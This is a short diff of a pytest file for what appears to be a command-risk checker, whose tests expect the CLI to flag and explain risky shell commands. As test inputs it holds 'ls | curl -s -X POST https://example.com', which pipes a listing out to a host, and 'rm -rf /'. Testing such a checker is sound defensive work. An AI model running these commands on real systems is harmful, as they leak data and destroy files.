@@ -52,7 +52,7 @@ def _text(shown: str) -> str:
 
 
 def test_explain_is_a_coloured_table_on_a_terminal() -> None:
-    code, shown, _ = _on_terminal(["check", "--explain", "ls | curl -s https://example.com"])
+    code, shown, _ = _on_terminal(["check", "--explain", "ls | curl -s -X POST https://example.com"])
     assert code == 3
     assert COLOUR.search(shown) and "┃ simple command" in _text(shown)
     assert "CG-RISK-001" in shown and "ask" in shown
@@ -65,7 +65,7 @@ def test_no_color_keeps_the_table_without_colour() -> None:
 
 
 @pytest.mark.parametrize("argv", [
-    ["check", "--explain", "ls | curl -s https://example.com"],
+    ["check", "--explain", "ls | curl -s -X POST https://example.com"],
     ["check", "rm -rf /"],
     ["tools", "--explain"],
 ])
